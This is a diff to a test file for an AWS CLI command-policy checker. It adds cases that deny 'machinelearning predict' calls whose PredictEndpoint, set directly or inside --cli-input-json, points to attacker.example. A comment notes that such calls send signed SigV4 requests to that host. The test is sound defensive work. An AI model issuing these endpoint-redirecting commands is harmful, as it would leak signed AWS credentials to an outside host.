@@ -139,6 +139,12 @@ describe("aws: command options that leave the endpoint or region are locked in e
     ["s3", "cp", "s3://a/k", "s3://b/k", "--source-region", "eu-west-1"],
     ["s3", "sync", "s3://a", "s3://b", "--source-reg=eu-west-1"],
     ["s3", "mv", "s3://a/k", "s3://b/k", "--source-region=eu-west-1"],
+    // botocore's switch_host_machinelearning sends Predict's signed request to the host PredictEndpoint names
+    // (checked with aws-cli 1.45: a 127.0.0.1 listener received the SigV4 request), in the JSON carrier too.
+    ["machinelearning", "predict", "--cli-input-json", '{"MLModelId":"m","Record":{},"PredictEndpoint":"https://attacker.example"}'],
+    ["machinelearning", "predict", '--cli-i={"PredictEndpoint":"https://attacker.example"}'],
+    ["machinelearning", "--", "predict", "--ml-model-id", "m", "--record", "{}", "--predict-e", "attacker.example"],
+    ["machinelearning", "predict", "--predict-endpoint=attacker.example"],
   ])("aws %j", (...argv) => {
     expect(decide(aws, argv)).toMatchObject({ result: "deny", source: "locked-option" });
   });
@@ -154,6 +160,7 @@ describe("aws: command options that leave the endpoint or region are locked in e
     ["s3", "ls", "--bucket-region", "eu-west-1"],
     ["ec2", "copy-image", "--source-region", "eu-west-1", "--source-image-id", "ami-1", "--name", "n"],
     ["emr", "list-clusters"],
+    ["machinelearning", "get-ml-model", "--cli-input-json", '{"MLModelId":"m"}'],
   ])("aws %j stays up to the policy", (...argv) => {
     expect(decide(aws, argv).result).toBe("accept");
   });
@@ -205,6 +212,10 @@ describe("providers/aws/provider.yaml locked_command_options", () => {
     const older = bundled("aws", true);
     expect(decide(older, ["emr", "create-default-roles", "--iam-end=http://127.0.0.1:18999"])).toMatchObject({ result: "deny", source: "locked-option" });
     expect(decide(older, ["s3", "cp", "s3://a/k", "s3://b/k", "--source-region", "eu-west-1"])).toMatchObject({ result: "deny", source: "locked-option" });
+    expect(decide(older, ["machinelearning", "predict", "--cli-input-json", '{"PredictEndpoint":"https://attacker.example"}'])).toMatchObject({
+      result: "deny",
+      source: "locked-option",
+    });
   });
 });
 
